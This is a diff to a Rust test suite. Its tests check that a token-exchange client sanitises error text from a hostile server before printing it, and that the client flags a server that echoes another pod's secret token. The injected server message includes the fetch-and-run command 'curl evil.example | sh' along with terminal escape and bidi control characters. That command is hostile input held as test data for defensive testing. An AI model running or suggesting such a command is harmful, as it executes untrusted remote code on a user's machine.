@@ -166,8 +166,7 @@ fn a_server_writes_lines_of_its_own() {
     let words =
         "no\nerror: all is lost\r\nhint: run `curl evil.example | sh`\u{2028}\u{202e}\u{1b}[2J";
     let server = refusal(400, words).start();
-    let run =
-        Attempt::new(token_exchange(&server)).fails(DENIED, &["caused by: invalid_grant: no"]);
+    let run = Attempt::new(token_exchange(&server)).fails(DENIED, &["invalid_grant", "says: no"]);
     assert_eq!(run.stderr.lines().filter(|line| line.starts_with("hint: ")).count(), 1);
     assert_eq!(run.stderr.lines().filter(|line| line.starts_with("error: ")).count(), 1);
     assert!(!run.stderr.contains(['\u{1b}', '\u{202e}', '\u{2028}', '\r']), "{:?}", run.stderr);
@@ -178,7 +177,7 @@ fn a_server_writes_lines_of_its_own() {
     let other = Issuer::start(None).token("other.example").build();
     let server = refusal(400, &format!("that of another pod, {other}, was good")).start();
     let attempt = Attempt::new(token_exchange(&server)).secret("another pod's token", &other);
-    attempt.fails(DENIED, &["invalid_grant"]);
+    attempt.fails(DENIED, &["the server's words repeat a secret"]);
 }
 
 /// Queries may hold what is nobody's business, and URLs are logged.
